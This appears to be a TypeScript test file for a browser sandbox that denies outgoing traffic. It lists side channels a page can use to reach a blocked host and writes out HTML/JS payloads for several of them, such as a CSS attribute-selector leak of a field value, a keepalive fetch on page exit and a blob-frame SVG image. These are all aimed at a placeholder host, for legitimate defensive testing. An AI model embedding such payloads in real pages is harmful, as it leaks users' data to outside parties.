/** Ways for a page to reach a denied host besides going there itself (A&S Z8). */
import type { Way } from '../../../browser/ways-out.js';
import type { Attack } from '../support/attack.js';
import { byPage, wayNamed } from '../support/ways.js';

const KNOWN: readonly (readonly [name: string, what: string])[] = [
  ['form-post', 'a form that sends itself'],
  ['iframe', 'a frame'],
  ['image', 'a picture'],
  ['css-import', 'a style sheet inside of a style sheet'],
  ['font', 'a font'],
  ['websocket', 'a web socket'],
  ['event-source', 'an event source'],
  ['beacon', 'a beacon'],
  ['worker', 'a fetch of a worker'],
  ['shared-worker', 'a fetch of a shared worker'],
  ['service-worker', 'a fetch of a service worker'],
  ['prefetch', 'a prefetch'],
  ['ping', 'the ping of a link'],
  ['csp-report', 'a report of a content policy'],
  ['webrtc', 'WebRTC, by datagrams'],
  ['webtransport', 'WebTransport, by datagrams'],
];

const OTHERS: readonly (readonly [what: string, way: Way])[] = [
  [
    'a frame whose text is in the page',
    {
      name: 'srcdoc',
      page: ({ http }) => `<title>x</title><iframe srcdoc="<img src='${http}/x.png'>"></iframe>`,
    },
  ],
  [
    'a connection made ahead, and then used',
    {
      name: 'preconnect',
      page: ({ http }) =>
        `<title>x</title><link rel="preconnect" href="${http}"><link rel="preload" as="fetch" href="${http}/x">`,
    },
  ],
  [
    'a value of a field, told letter by letter by style rules',
    {
      name: 'css-attribute',
      page: ({ http }) =>
        `<title>x</title><style>input[value^="s"] { background: url('${http}/s') }</style><input value="secret">`,
    },
  ],
  [
    'a fetch that goes on after its page is left',
    {
      name: 'keep-alive',
      page: ({ http }) =>
        `<title>x</title><script>addEventListener('pagehide', () => fetch('${http}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }));
        location.hash = 'a'; setTimeout(() => location.replace('about:blank'), 200)</script>`,
    },
  ],
  [
    'a picture in an SVG, in a frame of a blob',
    {
      name: 'blob-frame',
      page: ({ http }) =>
        `<title>x</title><script>const f = document.createElement('iframe');
        f.src = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}/x.png" width="9" height="9"/></svg>'], { type: 'image/svg+xml' }));
        document.documentElement.append(f)</script>`,
    },
  ],
];

export const attacks: readonly Attack[] = [
  ...KNOWN.map(([name, what]) => byPage('side-channels', what, wayNamed(name))),
  ...OTHERS.map(([what, way]) => byPage('side-channels', what, way)),
];
